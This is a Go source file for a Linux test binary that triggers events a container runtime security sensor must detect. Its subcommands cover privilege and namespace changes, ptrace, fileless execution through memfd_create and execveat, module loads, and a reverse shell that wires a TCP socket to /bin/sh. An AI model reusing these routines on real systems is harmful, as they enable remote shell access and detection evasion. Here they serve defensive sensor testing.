//go:build linux

// Command mamori-testbin runs inside runctest containers and does, one per
// subcommand, the things mamori's runtime sensor must see: connections,
// sensitive opens, credential and namespace changes, ptrace, fileless
// execution, module loads, reverse shells and a fixed syscall workload for
// seccomp profiles.
//
// Exit status: 0 when the operation succeeded (module always exits 0 and
// reports the errno), 1 when the operation failed (the error is on stderr,
// naming the errno), 2 on a usage error.
package main

import (
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

type command struct {
	usage string
	min   int
	run   func(args []string) error
}

var commands = map[string]command{
	"connect":       {"connect HOST:PORT", 1, connect},
	"open":          {"open PATH", 1, openRead},
	"write":         {"write PATH", 1, write},
	"setuid":        {"setuid UID", 1, setuid},
	"setgid":        {"setgid GID", 1, setgid},
	"capset":        {"capset [HEXMASK]", 0, capset},
	"unshare":       {"unshare [mnt,uts,ipc,net,pid,cgroup,user]", 0, unshare},
	"setns":         {"setns [NSPATH]", 0, setns},
	"mount":         {"mount [SOURCE TARGET FSTYPE]", 0, mount},
	"ptrace":        {"ptrace PID", 1, ptrace},
	"memfd-exec":    {"memfd-exec [BINARY [ARGS...]]", 0, memfdExec},
	"module":        {"module", 0, module},
	"marker":        {"marker PATH", 1, marker},
	"serve":         {"serve PORT", 1, serve},
	"reverse-shell": {"reverse-shell HOST:PORT", 1, reverseShell},
	"syscalls":      {"syscalls", 0, syscalls},
}

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	c, ok := commands[os.Args[1]]
	if !ok || len(os.Args)-2 < c.min {
		usage()
	}
	if err := c.run(os.Args[2:]); err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: mamori-testbin COMMAND [ARGS]; commands:")
	for _, name := range slices.Sorted(maps.Keys(commands)) {
		fmt.Fprintln(os.Stderr, "  "+commands[name].usage)
	}
	os.Exit(2)
}

// errnoName names a syscall error the way tests match it ("EPERM").
func errnoName(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
	}
	return err.Error()
}

func sysErr(call string, err error) error {
	return fmt.Errorf("%s: %s", call, errnoName(err))
}

func connect(args []string) error {
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Printf("connected %s -> %s\n", c.LocalAddr(), c.RemoteAddr())
	return nil
}

func openRead(args []string) error {
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	n, err := io.Copy(io.Discard, f)
	if err != nil {
		return err
	}
	fmt.Printf("read %d bytes\n", n)
	return nil
}

func write(args []string) error {
	return os.WriteFile(args[0], []byte("mamori\n"), 0o644)
}

func setuid(args []string) error {
	id, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	// The raw call on this thread: the sensor must see exactly one setuid,
	// not the runtime's all-threads broadcast.
	if _, _, e := unix.RawSyscall(unix.SYS_SETUID, uintptr(id), 0, 0); e != 0 {
		return sysErr("setuid", e)
	}
	fmt.Println("uid", unix.Getuid())
	return nil
}

func setgid(args []string) error {
	id, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if _, _, e := unix.RawSyscall(unix.SYS_SETGID, uintptr(id), 0, 0); e != 0 {
		return sysErr("setgid", e)
	}
	fmt.Println("gid", unix.Getgid())
	return nil
}

// capset sets the effective and permitted sets to HEXMASK (default: what
// the process already has, a no-op that still reaches the kernel).
func capset(args []string) error {
	runtime.LockOSThread()
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		return sysErr("capget", err)
	}
	if len(args) > 0 {
		m, err := strconv.ParseUint(strings.TrimPrefix(args[0], "0x"), 16, 64)
		if err != nil {
			return err
		}
		data[0].Effective, data[1].Effective = uint32(m), uint32(m>>32)
		data[0].Permitted, data[1].Permitted = uint32(m), uint32(m>>32)
	}
	if err := unix.Capset(&hdr, &data[0]); err != nil {
		return sysErr("capset", err)
	}
	fmt.Printf("capset effective=%#x\n", uint64(data[1].Effective)<<32|uint64(data[0].Effective))
	return nil
}

var nsFlags = map[string]int{
	"mnt": unix.CLONE_NEWNS, "uts": unix.CLONE_NEWUTS, "ipc": unix.CLONE_NEWIPC,
	"net": unix.CLONE_NEWNET, "pid": unix.CLONE_NEWPID, "cgroup": unix.CLONE_NEWCGROUP,
	"user": unix.CLONE_NEWUSER,
}

func unshare(args []string) error {
	names := "uts"
	if len(args) > 0 {
		names = args[0]
	}
	flags := 0
	for _, n := range strings.Split(names, ",") {
		f, ok := nsFlags[n]
		if !ok {
			return fmt.Errorf("unknown namespace %q", n)
		}
		flags |= f
	}
	runtime.LockOSThread() // the new namespaces belong to this thread
	if err := unix.Unshare(flags); err != nil {
		return sysErr("unshare", err)
	}
	fmt.Println("unshared", names)
	return nil
}

func setns(args []string) error {
	path := "/proc/self/ns/uts"
	if len(args) > 0 {
		path = args[0]
	}
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return sysErr("open "+path, err)
	}
	defer unix.Close(fd)
	runtime.LockOSThread()
	if err := unix.Setns(fd, 0); err != nil {
		return sysErr("setns", err)
	}
	fmt.Println("setns", path)
	return nil
}

func mount(args []string) error {
	src, target, fstype := "tmpfs", "/tmp/mamori-mnt", "tmpfs"
	if len(args) >= 3 {
		src, target, fstype = args[0], args[1], args[2]
	}
	if err := os.MkdirAll(target, 0o755); err != nil {
		return err
	}
	if err := unix.Mount(src, target, fstype, 0, ""); err != nil {
		return sysErr("mount", err)
	}
	fmt.Println("mounted", target)
	return nil
}

func ptrace(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	runtime.LockOSThread() // the tracer is this thread
	if err := unix.PtraceAttach(pid); err != nil {
		return sysErr("ptrace", err)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		return sysErr("wait4", err)
	}
	if err := unix.PtraceDetach(pid); err != nil {
		return sysErr("ptrace detach", err)
	}
	fmt.Println("attached", pid)
	return nil
}

// memfdExec copies BINARY (default /bin/busybox) into an anonymous memory
// file and executes that file: the fileless-execution pattern.
func memfdExec(args []string) error {
	bin, argv := "/bin/busybox", []string{"busybox", "echo", "memfd-exec-ok"}
	if len(args) > 0 {
		bin, argv = args[0], args[1:]
		if len(argv) == 0 {
			argv = []string{bin}
		}
	}
	src, err := os.Open(bin)
	if err != nil {
		return err
	}
	defer src.Close()
	fd, err := unix.MemfdCreate("mamori", unix.MFD_CLOEXEC)
	if err != nil {
		return sysErr("memfd_create", err)
	}
	mf := os.NewFile(uintptr(fd), "memfd")
	if _, err := io.Copy(mf, src); err != nil {
		return err
	}
	empty, _ := unix.BytePtrFromString("")
	argvp, err := cstrings(argv)
	if err != nil {
		return err
	}
	envp, err := cstrings(os.Environ())
	if err != nil {
		return err
	}
	_, _, e := unix.Syscall6(unix.SYS_EXECVEAT, mf.Fd(), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return sysErr("execveat", e)
}

// cstrings is a NULL-terminated array of C strings for execveat.
func cstrings(ss []string) ([]*byte, error) {
	out := make([]*byte, 0, len(ss)+1)
	for _, s := range ss {
		p, err := unix.BytePtrFromString(s)
		if err != nil {
			return nil, err
		}
		out = append(out, p)
	}
	return append(out, nil), nil
}

// module asks the kernel to load a module both ways; inside a container
// both must fail, and the errno is what the test wants to see.
func module([]string) error {
	f, err := os.Open("/bin/busybox")
	if err != nil {
		return err
	}
	defer f.Close()
	// Not an ELF module: should the call get past the permission check,
	// the loader rejects it, so nothing is ever loaded.
	err = unix.FinitModule(int(f.Fd()), "mamori=1", 0)
	fmt.Println("finit_module", errnoName(orOK(err)))
	err = unix.InitModule([]byte("not a module"), "mamori=1")
	fmt.Println("init_module", errnoName(orOK(err)))
	return nil
}

var errOK = errors.New("OK")

func orOK(err error) error {
	if err == nil {
		return errOK
	}
	return err
}

func marker(args []string) error {
	return os.WriteFile(args[0], []byte("marker\n"), 0o644)
}

// serve accepts one connection on PORT (0: any) on all addresses, after
// printing "listening PORT", and greets it.
func serve(args []string) error {
	l, err := net.Listen("tcp", ":"+args[0])
	if err != nil {
		return err
	}
	defer l.Close()
	fmt.Printf("listening %d\n", l.Addr().(*net.TCPAddr).Port)
	c, err := l.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	fmt.Printf("accepted %s\n", c.RemoteAddr())
	_, err = io.WriteString(c, "hello from mamori-testbin\n")
	return err
}

// reverseShell connects out, puts the socket on fds 0-2 and runs a shell
// command there: the classic reverse shell.
func reverseShell(args []string) error {
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := 0; fd <= 2; fd++ {
		if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil {
			return sysErr("dup3", err)
		}
	}
	return unix.Exec("/bin/sh", []string{"sh", "-c", "id"}, os.Environ())
}

// syscalls is a fixed workload for seccomp tests: besides what any Go
// program does, it needs uname, sysinfo and getcwd, none of which the Go
// runtime calls on its own, so a profile without one of them fails here.
func syscalls([]string) error {
	b, err := os.ReadFile("/etc/passwd")
	if err != nil {
		return err
	}
	var u unix.Utsname
	if err := unix.Uname(&u); err != nil {
		return sysErr("uname", err)
	}
	var si unix.Sysinfo_t
	if err := unix.Sysinfo(&si); err != nil {
		return sysErr("sysinfo", err)
	}
	wd, err := unix.Getwd()
	if err != nil {
		return sysErr("getcwd", err)
	}
	fmt.Printf("syscalls ok: passwd=%d bytes pid=%d cwd=%s\n", len(b), unix.Getpid(), wd)
	return nil
}
